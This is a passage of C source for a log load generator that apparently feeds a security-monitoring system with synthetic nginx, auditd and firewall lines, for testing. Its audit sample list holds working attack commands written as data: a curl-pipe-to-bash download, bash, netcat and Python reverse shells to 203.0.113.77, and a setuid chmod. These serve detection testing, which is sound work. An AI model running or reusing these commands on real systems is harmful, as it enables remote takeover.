		{ "GET", "/admin/", "Mozilla/5.0 (compatible; Nuclei - Open-source project "
		    "(github.com/projectdiscovery/nuclei))", 404 },
	};
	struct lg_tpl t = lg_tpl_make(LG_WEB, LG_SHAPE_RAW, LG_ACCESS_LOG, LG_PRI_LOCAL7_INFO);
	const char *method = "GET", *ua = lg_chance(88) ? LG_PICK(uas) : LG_PICK(bots), *ip;
	const char *ref = "-";
	char uri[256], refbuf[300], m[1024];
	unsigned status = 200, bytes, r = lg_below(1000);
	int n, d;

	lg_tpl_tag(&t, "nginx", 0);
	ip = g->web_clients[lg_below(LG_WEB_CLIENTS)];
	bytes = 200 + lg_below(20000);
	if (lg_chance(1)) {
		unsigned k = lg_below((uint32_t)MS_ARRAY_LEN(attacks));
		method = attacks[k].method;
		snprintf(uri, sizeof(uri), "%s", attacks[k].uri);
		if (attacks[k].ua)
			ua = attacks[k].ua;
		status = attacks[k].status;
		bytes = 150 + lg_below(400);
		ip = g->attackers[lg_below(LG_ATTACKERS)];
		t.attack = true;
	} else if (r < 150) {
		snprintf(uri, sizeof(uri), "/static/js/app.%08x.js", lg_rnd());
		bytes = 20000 + lg_below(200000);
	} else if (r < 280) {
		snprintf(uri, sizeof(uri), "/static/css/main.%08x.css", lg_rnd());
		bytes = 5000 + lg_below(40000);
	} else if (r < 430) {
		snprintf(uri, sizeof(uri), "/images/products/%u.jpg", lg_below(50000));
		bytes = 10000 + lg_below(300000);
	} else if (r < 560) {
		snprintf(uri, sizeof(uri), "/api/v1/products?page=%u&per_page=24", 1 + lg_below(40));
	} else if (r < 640) {
		snprintf(uri, sizeof(uri), "/products/%u", lg_below(50000));
	} else if (r < 700) {
		snprintf(uri, sizeof(uri), "/search?q=%s", LG_PICK(words));
	} else if (r < 760) {
		method = "POST";
		snprintf(uri, sizeof(uri), "/api/v1/cart");
		status = lg_chance(95) ? 201 : 422;
	} else if (r < 790) {
		method = "POST";
		snprintf(uri, sizeof(uri), "/login");
		status = lg_chance(85) ? 302 : 401;
	} else if (r < 820) {
		snprintf(uri, sizeof(uri), "/healthz");
		ua = lg_chance(50) ? "kube-probe/1.30" : "Prometheus/2.53.0";
		bytes = 2;
	} else if (r < 850) {
		snprintf(uri, sizeof(uri), "%s", lg_chance(50) ? "/favicon.ico" : "/robots.txt");
	} else if (r < 870) {
		method = "HEAD";
		snprintf(uri, sizeof(uri), "/");
		bytes = 0;
	} else {
		static const char *const pages[] = { "/", "/about", "/contact", "/cart", "/checkout",
			"/blog/", "/category/outdoor", "/category/men", "/category/women" };
		snprintf(uri, sizeof(uri), "%s", LG_PICK(pages));
	}
	if (!t.attack && status == 200) {
		unsigned s = lg_below(1000);
		if (s < 60) {
			status = 304;
			bytes = 0;
		} else if (s < 100) {
			status = 404;
			bytes = 153;
		} else if (s < 105) {
			status = 502;
			bytes = 157;
		}
	}
	if (!t.attack && lg_chance(55)) {
		snprintf(refbuf, sizeof(refbuf), "https://shop.example.com%s",
		    lg_chance(50) ? "/" : "/category/outdoor");
		ref = refbuf;
	}
	n = snprintf(m, sizeof(m), "%s - - [", ip);
	d = n;
	n += snprintf(m + n, sizeof(m) - (size_t)n, "01/Jan/1970:00:00:00 +0000] \"%s %s "
	    "HTTP/1.1\" %u %u \"%s\" \"%s\"", method, uri, status, bytes, ref, ua);
	t.web_date = d;
	/*
	 * Never marked: an access line read from its file decodes as category
	 * webserver without product linux, so the marker rule of
	 * tests/integration/rules-seq (product linux) would never see it.
	 */
	lg_add_end(p, &t, m, n, NULL);
}

/* Writes auditd's form of an EXECVE argument: quoted, or hex when it must be. */
static int
lg_audit_arg(char *out, size_t outsz, unsigned i, const char *arg)
{
	bool hex = false;
	int n;

	for (const char *c = arg; *c; c++)
		if (*c == ' ' || *c == '"' || (unsigned char)*c < 0x21 || (unsigned char)*c > 0x7e)
			hex = true;
	n = snprintf(out, outsz, " a%u=%s", i, hex ? "" : "\"");
	for (const char *c = arg; *c && (size_t)n + 3 < outsz; c++) {
		if (hex)
			n += snprintf(out + n, outsz - (size_t)n, "%02X", (unsigned char)*c);
		else
			out[n++] = *c;
	}
	if (!hex && (size_t)n + 1 < outsz)
		out[n++] = '"';
	out[n] = '\0';
	return n;
}

/* One exec as auditd logs it: a SYSCALL and an EXECVE record of the same event. */
static void
lg_gen_audit(struct lg_pool *p, struct lg_gen *g)
{
	struct lg_cmd {
		const char *exe;
		const char *argv[7];
		bool root;	/* run by root (cron, a daemon, sudo) */
	};
	static const struct lg_cmd cmds[] = {
		{ "/usr/bin/ls", { "ls", "-la", "/var/www/html" }, false },
		{ "/usr/bin/ps", { "ps", "aux" }, false },
		{ "/usr/bin/systemctl", { "systemctl", "status", "nginx" }, false },
		{ "/usr/bin/cat", { "cat", "/etc/hostname" }, false },
		{ "/usr/bin/grep", { "grep", "-c", "error", "/var/log/nginx/error.log" }, false },
		{ "/usr/bin/python3.11", { "/usr/bin/python3", "/opt/shop/worker.py", "--queue",
		    "default" }, false },
		{ "/usr/bin/git", { "git", "pull", "--ff-only" }, false },
		{ "/usr/bin/df", { "df", "-h" }, false },
		{ "/usr/bin/uptime", { "uptime" }, false },
		{ "/usr/bin/id", { "id" }, false },
		{ "/usr/bin/curl", { "curl", "-fsS", "http://127.0.0.1/healthz" }, false },
		{ "/usr/bin/dash", { "/bin/sh", "-c", "run-parts --report /etc/cron.hourly" }, true },
		{ "/usr/bin/dash", { "/bin/sh", "-c", "   cd / && run-parts --report /etc/cron.daily" },
		    true },
		{ "/usr/sbin/logrotate", { "/usr/sbin/logrotate", "/etc/logrotate.conf" }, true },
		{ "/usr/bin/tar", { "tar", "-czf", "/var/backups/www.tgz", "/var/www" }, true },
		{ "/usr/bin/apt-get", { "apt-get", "update" }, true },
		{ "/usr/sbin/nginx", { "nginx", "-t" }, true },
		{ "/usr/bin/gzip", { "gzip", "-9", "/var/log/nginx/access.log.1" }, true },
	};
	static const struct lg_cmd bad[] = {
		{ "/usr/bin/bash", { "bash", "-c", "curl -fsSL http://203.0.113.77/x.sh | bash" }, false },
		{ "/usr/bin/bash", { "bash", "-c", "bash -i >& /dev/tcp/203.0.113.77/4444 0>&1" }, false },
		{ "/usr/bin/nc.traditional", { "nc", "-e", "/bin/sh", "203.0.113.77", "4444" }, false },
		{ "/usr/bin/chmod", { "chmod", "u+s", "/tmp/.cache/x" }, true },
		{ "/usr/bin/python3.11", { "python3", "-c",
		    "import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.77\",4444));"
		    "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")" }, false },
	};
	bool is_bad = lg_chance(2);
	const struct lg_cmd *c = is_bad ? &LG_PICK(bad) : &LG_PICK(cmds);
	const struct lg_user *u = &LG_PICK(lg_staff);
	struct lg_tpl t = lg_tpl_make(LG_AUDIT, LG_SHAPE_RAW, LG_AUDIT_LOG, LG_PRI_USER_INFO);
	unsigned argc = 0, uid = c->root ? 0 : u->uid, ses = c->root ? 4294967295u : 1 + lg_below(60);
	unsigned auid = c->root ? 4294967295u : u->uid;
	const char *comm = strrchr(c->exe, '/') + 1;
	char m[2048], tty[16];
	int n, stamp;

	(void)g;
	while (argc < MS_ARRAY_LEN(c->argv) && c->argv[argc])
		argc++;
	if (c->root)
		snprintf(tty, sizeof(tty), "(none)");
	else
		snprintf(tty, sizeof(tty), "pts%u", lg_below(8));
	lg_tpl_tag(&t, "audisp-syslog", 700 + lg_below(200));
	t.attack = is_bad;
	n = snprintf(m, sizeof(m), "type=SYSCALL msg=audit(");
	stamp = n;
	n += snprintf(m + n, sizeof(m) - (size_t)n, "0000000000.000:0000000): arch=c000003e "
	    "syscall=59 success=yes exit=0 a0=%x%08x a1=%x%08x a2=%x%08x a3=%x items=2 ppid=%u "
	    "pid=%u auid=%u uid=%u gid=%u euid=%u suid=%u fsuid=%u egid=%u sgid=%u fsgid=%u "
	    "tty=%s ses=%u comm=\"%.15s\" exe=\"%s\" subj=unconfined key=\"exec\"",
	    0x5500 + lg_below(0x100), lg_rnd(), 0x5500 + lg_below(0x100), lg_rnd(),
	    0x5500 + lg_below(0x100), lg_rnd(), lg_below(0x40), lg_pid(), lg_pid(), auid, uid, uid,
	    uid, uid, uid, uid, uid, uid, tty, ses, comm, c->exe);
	t.audit_stamp = stamp;
	lg_add_end(p, &t, m, n, " ");
	t.audit_same = true;
	n = snprintf(m, sizeof(m), "type=EXECVE msg=audit(");
	t.audit_stamp = n;
	n += snprintf(m + n, sizeof(m) - (size_t)n, "0000000000.000:0000000): argc=%u", argc);
	for (unsigned i = 0; i < argc; i++)
		n += lg_audit_arg(m + n, sizeof(m) - (size_t)n, i, c->argv[i]);
	lg_add_end(p, &t, m, n, " ");
}

/* One netfilter line as ufw logs it. */
static void
lg_gen_fw(struct lg_pool *p, struct lg_gen *g)
{
	static const unsigned tcp_ports[] = { 22, 22, 22, 23, 23, 25, 80, 443, 445, 445, 1433,
		2375, 3306, 3389, 3389, 5432, 5900, 6379, 8080, 8443, 8888, 9200, 27017 };
	static const unsigned udp_ports[] = { 53, 123, 161, 500, 1900, 5060, 11211 };
	struct lg_tpl t = lg_tpl_make(LG_FW, LG_SHAPE_SYSLOG, LG_KERN_LOG, LG_PRI_KERN_WARNING);
	unsigned s = lg_below(LG_SERVERS), r = lg_below(1000);
	char src[16], mac[48], m[768];
	const char *action = "BLOCK";
	int n;

	lg_tpl_tag(&t, "kernel", 0);
	if (lg_chance(40))
		snprintf(src, sizeof(src), "%s", g->attackers[lg_below(LG_ATTACKERS)]);
	else
		lg_public_ip(src);
	snprintf(mac, sizeof(mac), "%s:fa:16:3e:%02x:%02x:%02x:08:00", g->server_mac[s],
	    lg_below(256), lg_below(256), lg_below(256));
	if (r < 780 || r >= 960) {
		unsigned dpt = r < 780 ? (lg_chance(70) ? LG_PICK(tcp_ports) : 1 + lg_below(65535))
		    : (lg_chance(50) ? 22 : 443);
		if (r >= 960)
			action = "ALLOW";
		n = snprintf(m, sizeof(m), "[UFW %s] IN=eth0 OUT= MAC=%s SRC=%s DST=%s LEN=%u "
		    "TOS=0x00 PREC=0x00 TTL=%u ID=%u %sPROTO=TCP SPT=%u DPT=%u WINDOW=%u RES=0x00 SYN "
		    "URGP=0", action, mac, src, g->servers[s], lg_chance(50) ? 60 : 44,
		    40 + lg_below(200), lg_below(65536), lg_chance(60) ? "DF " : "", lg_port(), dpt,
		    lg_chance(50) ? 64240 : 1024);
	} else if (r < 930) {
		n = snprintf(m, sizeof(m), "[UFW BLOCK] IN=eth0 OUT= MAC=%s SRC=%s DST=%s LEN=%u "
		    "TOS=0x00 PREC=0x00 TTL=%u ID=%u PROTO=UDP SPT=%u DPT=%u LEN=%u", mac, src,
		    g->servers[s], 40 + lg_below(100), 40 + lg_below(200), lg_below(65536), lg_port(),
		    LG_PICK(udp_ports), 20 + lg_below(80));
	} else {
		n = snprintf(m, sizeof(m), "[UFW BLOCK] IN=eth0 OUT= MAC=%s SRC=%s DST=%s LEN=84 "
		    "TOS=0x00 PREC=0x00 TTL=%u ID=%u DF PROTO=ICMP TYPE=8 CODE=0 ID=%u SEQ=%u", mac,
		    src, g->servers[s], 40 + lg_below(200), lg_below(65536), lg_below(65536),
		    1 + lg_below(100));
	}
	lg_add_end(p, &t, m, n, " ");
}

/*
 * Builds the builtin pool: at least `size` lines. Kinds are drawn with
 * weights that make the shares of lines (not of draws) 30/10/35/15/10:
 * a sudo use is about 2.6 lines, an exec 2, an sshd event about 1.2.
 */
static void
lg_pool_builtin(struct lg_pool *p, size_t size)
{
	static const struct {
		void (*gen)(struct lg_pool *, struct lg_gen *);
		double weight;
	} kinds[] = {
		{ lg_gen_sshd, 30 / 1.18 }, { lg_gen_sudo, 10 / 2.94 }, { lg_gen_web, 35 / 1.0 },
		{ lg_gen_audit, 15 / 2.0 }, { lg_gen_fw, 10 / 1.0 },
	};
	struct lg_gen *g = malloc(sizeof(*g));
	double total = 0;

	if (g == NULL)
		lg_die(1, "out of memory");
	lg_gen_init(g);
	for (size_t k = 0; k < MS_ARRAY_LEN(kinds); k++)
		total += kinds[k].weight;
	while (p->n < size) {
		double x = lg_rnd() / 4294967296.0 * total;
		size_t k = 0;
		while (k + 1 < MS_ARRAY_LEN(kinds) && x >= kinds[k].weight) {
			x -= kinds[k].weight;
			k++;
		}
		kinds[k].gen(p, g);
	}
	free(g);
}

/*
 * Orders the builtin pool as the agent sends it: in read ticks of `tick`
 * lines, each tick's lines file by file (the agent reads each followed file
 * to its end in turn), in their order within each file. Files keep the
 * order of their first line in the pool. A tick never ends between the
 * records of one audit event. tick 1: every event on its own, as drawn.
 */
static void
lg_pool_ticks(struct lg_pool *p, size_t tick)
{
	const char *files[8];
	size_t nfiles = 0;
	struct lg_tpl *tmp;

	if (tick <= 1 || p->n < 2)
		return;
	for (size_t i = 0; i < p->n; i++) {
		size_t f = 0;
		while (f < nfiles && strcmp(files[f], p->t[i].source) != 0)
			f++;
		if (f == nfiles) {
			if (nfiles == MS_ARRAY_LEN(files))
				return;	/* not the builtin mix's handful: leave it */
			files[nfiles++] = p->t[i].source;
		}
	}
	if ((tmp = malloc(p->n * sizeof(*tmp))) == NULL)
		lg_die(1, "out of memory");
	for (size_t b = 0, e; b < p->n; b = e) {
		size_t k = b;
		e = b + tick < p->n ? b + tick : p->n;
		while (e < p->n && p->t[e].audit_same)
			e++;
		for (size_t f = 0; f < nfiles; f++)
			for (size_t i = b; i < e; i++)
				if (strcmp(p->t[i].source, files[f]) == 0)
					tmp[k++] = p->t[i];
		memcpy(p->t + b, tmp + b, (e - b) * sizeof(*tmp));
	}
	free(tmp);
}

/* Keeps s until the pool is freed; exits when out of memory. */
static char *
lg_pool_keep(struct lg_pool *p, char *s)
{
	char **no;

	if (s == NULL || (no = realloc(p->owned, (p->nowned + 1) * sizeof(*no))) == NULL)
		lg_die(1, "out of memory");
	p->owned = no;
	p->owned[p->nowned++] = s;
	return s;
}

/*
 * Finds "@MARK@" or "@MARK:SEP@" in line: returns where it starts (NULL
 * when absent), its length in *tok and SEP (kept by the pool) in *pre.
 */
static char *
lg_mark_token(char *line, size_t *tok, const char **pre, struct lg_pool *p)
{
	char *mk = strstr(line, "@MARK"), *end;

	for (; mk != NULL; mk = strstr(mk + 1, "@MARK")) {
		if (mk[5] == '@') {
			*tok = 6;
			*pre = "";
			return mk;
		}
		if (mk[5] == ':' && (end = strchr(mk + 6, '@')) != NULL && end - (mk + 6) <= 16) {
			*tok = (size_t)(end + 1 - mk);
			*pre = lg_pool_keep(p, strndup(mk + 6, (size_t)(end - (mk + 6))));
			return mk;
		}
	}
	return NULL;
}

/* --mix FILE: "source<TAB>line" per line; see the top of the file. */
static void
lg_pool_file(struct lg_pool *p, const char *path)
{
	FILE *f = fopen(path, "r");
	char *buf = NULL;
	bool *has_mark = NULL, *hm, any_mark = false;
	size_t cap = 0, lineno = 0, tok = 0;
	ssize_t len;

	if (f == NULL)
		lg_die(2, "--mix %s: %s", path, strerror(errno));
	while ((len = getline(&buf, &cap, f)) >= 0) {
		struct lg_tpl t = lg_tpl_make(LG_FILE, LG_SHAPE_LINE, NULL, 13);
		char *tab, *mk, *src;
		size_t l = (size_t)len;

		lineno++;
		while (l > 0 && (buf[l - 1] == '\n' || buf[l - 1] == '\r'))
			buf[--l] = '\0';
		if (l == 0 || buf[0] == '#')
			continue;
		if ((tab = memchr(buf, '\t', l)) == NULL || tab == buf)
			lg_die(2, "--mix %s:%zu: expected \"source<TAB>line\"", path, lineno);
		if ((size_t)(tab - buf) > MS_PROTO_MAX_SOURCE)
			lg_die(2, "--mix %s:%zu: source longer than %u bytes", path, lineno,
			    MS_PROTO_MAX_SOURCE);
		*tab = '\0';
		src = lg_pool_keep(p, strdup(buf));
		t.source = src;
		lg_tpl_tag(&t, "loadgen", 0);
		l -= (size_t)(tab + 1 - buf);
		memmove(buf, tab + 1, l + 1);
		if ((hm = realloc(has_mark, p->n + 1)) == NULL)
			lg_die(1, "out of memory");
		has_mark = hm;
		has_mark[p->n] = (mk = lg_mark_token(buf, &tok, &t.mark_pre, p)) != NULL;
		any_mark |= mk != NULL;
		if (mk != NULL) {
			t.mark_at = (int32_t)(mk - buf);
			memmove(mk, mk + tok, l - (size_t)(mk - buf) - tok + 1);
			l -= tok;
		} else {
			t.mark_at = (int32_t)l;
			t.mark_pre = " ";
		}
		lg_pool_add(p, &t, buf, l);
	}
	free(buf);
	fclose(f);
	if (p->n == 0)
		lg_die(2, "--mix %s: no template lines", path);
	if (any_mark)
		for (size_t i = 0; i < p->n; i++)
			if (!has_mark[i])
				p->t[i].mark_at = -1;
	free(has_mark);
}

/* The start-up line: what the pool holds, by kind. */
static void
lg_pool_describe(const struct lg *lg)
{
	const struct lg_pool *p = &lg->pool;
	size_t by[LG_NKINDS] = { 0 }, attacks[LG_NKINDS] = { 0 }, markable = 0, bytes = 0;

	for (size_t i = 0; i < p->n; i++) {
		by[p->t[i].kind]++;
		attacks[p->t[i].kind] += p->t[i].attack;
		markable += p->t[i].mark_at >= 0;
		bytes += p->t[i].msg_len;
	}
	fprintf(stderr, "loadgen: mix %s: %zu lines, mean message %zu bytes,", lg->c.mix, p->n,
	    bytes / p->n);
	for (int k = 0; k < LG_NKINDS; k++) {
		if (by[k] == 0)
			continue;
		fprintf(stderr, " %s %.1f%%", lg_kind_names[k], 100.0 * (double)by[k] / (double)p->n);
		if (attacks[k])
			fprintf(stderr, " (suspicious %.1f%% of them)",
			    100.0 * (double)attacks[k] / (double)by[k]);
	}
	fprintf(stderr, "; markable %.1f%%\n", 100.0 * (double)markable / (double)p->n);
}

/* ---- lines ------------------------------------------------------------- */

static const char lg_months[12][4] = { "Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug",
	"Sep", "Oct", "Nov", "Dec" };

static void
lg_digits(char *out, uint64_t v, unsigned width)
{
	for (unsigned k = width; k > 0; k--) {
		out[k - 1] = (char)('0' + v % 10);
		v /= 10;
	}
}

/* Updates the time strings to now (UTC). */
static void
lg_clock_update(struct lg_clock *c)
{
	struct timespec ts;
	struct tm tm;
	unsigned usec;

	clock_gettime(CLOCK_REALTIME, &ts);
	if (ts.tv_sec != c->sec) {
		time_t s = ts.tv_sec;
		unsigned y, mo, d, h, mi, se;
		gmtime_r(&s, &tm);
		/* bounded, so the compiler sees every field fits */
		y = (unsigned)(tm.tm_year + 1900) % 10000u;
		mo = (unsigned)tm.tm_mon % 12u;
		d = (unsigned)tm.tm_mday % 32u;
		h = (unsigned)tm.tm_hour % 24u;
		mi = (unsigned)tm.tm_min % 60u;
		se = (unsigned)tm.tm_sec % 61u;
		snprintf(c->rfc3339, sizeof(c->rfc3339), "%04u-%02u-%02uT%02u:%02u:%02u.000000+00:00",
		    y, mo + 1, d, h, mi, se);
		snprintf(c->rfc5424, sizeof(c->rfc5424), "%.19s.000000Z", c->rfc3339);
		snprintf(c->bsd, sizeof(c->bsd), "%s %2u %02u:%02u:%02u", lg_months[mo], d, h, mi, se);
		snprintf(c->web, sizeof(c->web), "%02u/%s/%04u:%02u:%02u:%02u +0000", d, lg_months[mo],
		    y, h, mi, se);
		snprintf(c->audit, sizeof(c->audit), "%010llu.000",
		    (unsigned long long)s % 10000000000ULL);
		c->sec = ts.tv_sec;
	}
	usec = (unsigned)(ts.tv_nsec / 1000);
	lg_digits(c->rfc3339 + 20, usec, 6);
	lg_digits(c->rfc5424 + 20, usec, 6);
	lg_digits(c->audit + 11, usec / 1000, 3);
	c->ms = (int64_t)ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

/*
 * Writes template t's message for agent a into out (LG_SCRATCH - 512 bytes
 * at least): time stamp and audit serial patched, the marker inserted when
 * marked. Returns its length.
 */
static size_t
lg_msg(struct lg_agent *a, const struct lg_tpl *t, char *out, bool marked)
{
	const struct lg *lg = a->lg;
	size_t n = t->msg_len;

	memcpy(out, lg->pool.arena + t->msg_off, n);
	if (t->web_date >= 0)
		memcpy(out + t->web_date, lg->clk.web, LG_WEB_DATE_LEN);
	if (t->audit_stamp >= 0) {
		if (!t->audit_same || !a->audit_have) {
			if (++a->audit_serial > 9999999u)
				a->audit_serial = 1000000u;
			memcpy(a->audit_last, lg->clk.audit, 14);
			a->audit_last[14] = ':';
			lg_digits(a->audit_last + 15, a->audit_serial, 7);
			a->audit_have = true;
		}
		memcpy(out + t->audit_stamp, a->audit_last, LG_AUDIT_STAMP_LEN);
	}
	if (marked) {
		char mk[LG_MARK_MAX];
		int ml = snprintf(mk, sizeof(mk), "%sMSEQ %s %" PRIu64 " t=%" PRId64 " ", t->mark_pre,
		    lg->c.run, a->lg->marks, lg_real_ns());
		size_t at = (size_t)t->mark_at;
		memmove(out + at + (size_t)ml, out + at, n - at);
		memcpy(out + at, mk, (size_t)ml);
		n += (size_t)ml;
	}
	return n;
}

static char *
lg_put(char *p, const char *s, size_t n)
{
	memcpy(p, s, n);
	return p + n;
}

/* Whether the next event gets the marker; advances the counters. */
static bool
lg_take_mark(struct lg_agent *a, const struct lg_tpl *t)
{
	uint64_t every = a->lg->c.mark;

	if (every == 0)
		return false;
	if (a->since_mark + 1 < every) {
		a->since_mark++;
		return false;
	}
	if (t->mark_at < 0) {
		a->since_mark = every;	/* due: the next line that has a place gets it */
		return false;
	}
	a->since_mark = 0;
	return true;
}

/* The next template of agent a. */
static const struct lg_tpl *
lg_next_tpl(struct lg_agent *a)
{
	const struct lg_tpl *t = &a->lg->pool.t[a->pool_pos];

	if (++a->pool_pos == a->lg->pool.n)
		a->pool_pos = 0;
	return t;
}

/*
 * The line event t has in its log file, built in a->scratch (with the
 * marker when marked; the caller counts it). Returns its length.
 */
static size_t
lg_file_line(struct lg_agent *a, const struct lg_tpl *t, bool marked)
{
	char *p = a->scratch;

	if (t->shape == LG_SHAPE_SYSLOG) {
		p = lg_put(p, a->lg->clk.rfc3339, 32);
		*p++ = ' ';
		p = lg_put(p, a->name, strlen(a->name));
		*p++ = ' ';
		p = lg_put(p, t->tag, strlen(t->tag));
		*p++ = ':';
		*p++ = ' ';
	}
	p += lg_msg(a, t, p, marked);
	return (size_t)(p - a->scratch);
}

/*
 * Appends event t as one octet-counted syslog frame to a->out. The message
 * is built at scratch + 16, its length written just before it.
 */
static int
lg_syslog_frame(struct lg_agent *a, const struct lg_tpl *t, bool marked)
{
	const struct lg *lg = a->lg;
	char *start = a->scratch + 16, *p = start, num[16];
	int nl;

	if (t->shape == LG_SHAPE_LINE) {
		p = lg_put(p, "<13>", 4);
	} else {
		p += snprintf(p, 8, "<%u>", t->pri);
		if (lg->c.bsd) {
			p = lg_put(p, lg->clk.bsd, 15);
			*p++ = ' ';
			p = lg_put(p, a->name, strlen(a->name));
			*p++ = ' ';
			p = lg_put(p, t->tag, strlen(t->tag));
			*p++ = ':';
			*p++ = ' ';
		} else {
			p = lg_put(p, "1 ", 2);
			p = lg_put(p, lg->clk.rfc5424, 27);
			*p++ = ' ';
			p = lg_put(p, a->name, strlen(a->name));
			*p++ = ' ';
			p = lg_put(p, t->tag5424, strlen(t->tag5424));
			p = lg_put(p, " - - ", 5);
		}
	}
	p += lg_msg(a, t, p, marked);
	nl = snprintf(num, sizeof(num), "%zu ", (size_t)(p - start));
	memcpy(start - nl, num, (size_t)nl);
	return ms_buf_add(&a->out, start - nl, (size_t)(p - start) + (size_t)nl);
}

/* ---- sending ----------------------------------------------------------- */

/* Appends one BATCH of up to n events to a->out; returns how many went in. */
static uint64_t
lg_batch_minisoc(struct lg_agent *a, uint64_t n)
{
	const struct lg *lg = a->lg;
	size_t start, limit = MS_PROTO_HDR_LEN + lg->c.max_frame;
	uint64_t k = 0;

	if (ms_batch_begin(&a->out, &start) < 0)
		return 0;
	while (k < n) {
		size_t save_pos = a->pool_pos;
		uint64_t save_since = a->since_mark;
		const struct lg_tpl *t = lg_next_tpl(a);
		bool marked = lg_take_mark(a, t);
		struct ms_wire_event we;

		we.seq = a->next_seq;
		we.time_ms = lg->clk.ms;
		we.source = t->source;
		we.source_len = t->source_len;
		we.line = a->scratch;
		we.line_len = lg_file_line(a, t, marked);
		/* Always one event; then stop before the frame would pass the cap. */
		if ((k > 0 && a->out.len - start + ms_batch_event_size(we.source_len, we.line_len) >
		    limit) || ms_batch_add(&a->out, &we) < 0) {
			a->pool_pos = save_pos;
			a->since_mark = save_since;
			break;
		}
		a->lg->marks += marked;
		a->next_seq++;
		k++;
	}
	if (k == 0) {
		a->out.len = start;
		return 0;
	}
	ms_batch_finish(&a->out, start, (uint32_t)k);
	return k;
}

static uint64_t
lg_batch_syslog(struct lg_agent *a, uint64_t n)
{
	uint64_t k;

	for (k = 0; k < n; k++) {
		const struct lg_tpl *t = lg_next_tpl(a);
		bool marked = lg_take_mark(a, t);
		if (lg_syslog_frame(a, t, marked) < 0)
			lg_die(1, "agent %s: output buffer full", a->name);
		a->lg->marks += marked;
	}
	return k;
}

/* Events agent a may generate now: quota, window and schedule. */
static uint64_t
lg_allowed(struct lg_agent *a, int64_t now)
{
	const struct lg *lg = a->lg;
	uint64_t allowed = a->quota - a->sent;

	if (lg->c.mode == LG_MODE_MINISOC && !lg->c.dry_run) {
		uint64_t inflight = a->next_seq - 1 - a->acked_seq;
		uint64_t room = inflight >= lg->c.window ? 0 : lg->c.window - inflight;
		if (room < allowed)
			allowed = room;
	}
	if (a->rate_per_ns > 0) {
		uint64_t due = a->sched_sent + (uint64_t)((double)(now - a->sched_ns) * a->rate_per_ns);
		uint64_t cap = (uint64_t)(a->rate_per_ns * (double)LG_CATCHUP_NS) + 1;
		if (due > a->sent + cap) {
			/* A stall: keep 100 ms of debt, the rest slips. */
			a->slipped += due - a->sent - cap;
			a->sched_ns = now;
			a->sched_sent = a->sent + cap;
			due = a->sched_sent;
		}
		if (due < a->sent + allowed)
			allowed = due > a->sent ? due - a->sent : 0;
	}
	return allowed;
}

static void lg_fail(struct lg_agent *a, const char *fmt, ...) __attribute__((format(printf, 2, 3), noreturn));

/* A connection, TLS or protocol error ends the run with status 1. */
static void
lg_fail(struct lg_agent *a, const char *fmt, ...)
{
	char msg[768];
	va_list ap;

	va_start(ap, fmt);
	vsnprintf(msg, sizeof(msg), fmt, ap);
	va_end(ap);
	lg_die(1, "agent %s (%s:%s): %s", a->name, a->lg->c.host, a->lg->c.port, msg);
}

/* Why an SSL call failed, as one line (and whether the peer refused our certificate). */
static void
lg_ssl_reason(struct lg_agent *a, int ret, int err, char *out, size_t outsz)
{
	unsigned long e = 0, last = 0;
	long vr = a->ssl ? SSL_get_verify_result(a->ssl) : X509_V_OK;
	char buf[256];

	while ((e = ERR_get_error()) != 0)
		last = e;
	if (vr != X509_V_OK) {
		snprintf(out, outsz, "server certificate: %s (is --pki's ca.crt the server's CA, "
		    "--server-name its name?)", X509_verify_cert_error_string(vr));
	} else if (last != 0) {
		ERR_error_string_n(last, buf, sizeof(buf));
		if (ERR_GET_LIB(last) == ERR_LIB_SSL && ERR_GET_REASON(last) >= SSL_AD_REASON_OFFSET)
			snprintf(out, outsz, "the server refused the TLS session: %s (is this "
			    "agent's certificate signed by the server's CA?)", buf);
		else
			snprintf(out, outsz, "TLS: %s", buf);
	} else if (err == SSL_ERROR_SYSCALL && ret == 0) {
		snprintf(out, outsz, "the server closed the connection%s",
		    a->state == LG_ST_HELLO ? " before answering the hello" : "");
	} else if (err == SSL_ERROR_SYSCALL) {
		snprintf(out, outsz, "%s", strerror(errno));
	} else if (err == SSL_ERROR_ZERO_RETURN) {
		snprintf(out, outsz, "the server closed the TLS session");
	} else {
		snprintf(out, outsz, "TLS error %d", err);
	}
}

/* Writes what is pending; stops at WANT_WRITE. Fails the run on an error. */
static void
lg_flush(struct lg_agent *a, int64_t now)
{
	char why[512];

	if (a->lg->c.dry_run) {
		ms_buf_reset(&a->out);
		a->out_off = 0;
		return;
	}
	while (a->out_off < a->out.len) {
		size_t n = a->out.len - a->out_off;
		int w, e;

		ERR_clear_error();
		w = SSL_write(a->ssl, a->out.data + a->out_off, n > INT_MAX ? INT_MAX : (int)n);
		if (w > 0) {
			a->out_off += (size_t)w;
			a->last_tx_ns = now;
			continue;
		}
		e = SSL_get_error(a->ssl, w);
		if (e == SSL_ERROR_WANT_WRITE) {
			a->want_write = true;
			return;
		}
		if (e == SSL_ERROR_WANT_READ)
			return;
		lg_ssl_reason(a, w, e, why, sizeof(why));
		lg_fail(a, "write: %s", why);
	}
	ms_buf_reset(&a->out);
	a->out_off = 0;
	a->want_write = false;
}

/*
 * Fills the output buffer (only once it is empty: the kernel's socket
 * buffer does the pipelining) with what a may send now. Returns true when
 * it could go on at once (flat out and not held by window or quota).
 */
static bool
lg_generate(struct lg_agent *a, int64_t now)
{
	struct lg *lg = a->lg;
	uint64_t allowed;
	bool any = false;

	if (a->gen_done || a->state != LG_ST_READY || a->out_off < a->out.len)
		return false;
	if (lg->stop_ns && now >= lg->stop_ns) {
		a->gen_done = true;
		return false;
	}
	allowed = lg_allowed(a, now);
	ms_buf_reset(&a->out);
	a->out_off = 0;
	while (allowed > 0 && a->out.len < LG_OUT_HIGH) {
		uint64_t want = allowed < lg->c.batch ? allowed : lg->c.batch, got;
		if (!any) {
			lg_clock_update(&lg->clk);
			any = true;
		}
		got = lg->c.mode == LG_MODE_MINISOC ? lg_batch_minisoc(a, want) : lg_batch_syslog(a, want);
		if (got == 0)
			lg_die(1, "agent %s: an event does not fit in a frame (--max-frame %u)", a->name,
			    lg->c.max_frame);
		a->sent += got;
		allowed -= got;
	}
	if (lg->c.dry_run && lg->c.mode == LG_MODE_MINISOC)
		a->acked_seq = a->next_seq - 1;
	if (a->sent == a->quota)
		a->gen_done = true;
	lg_flush(a, now);
	return !a->gen_done && a->rate_per_ns == 0 && a->out_off == a->out.len &&
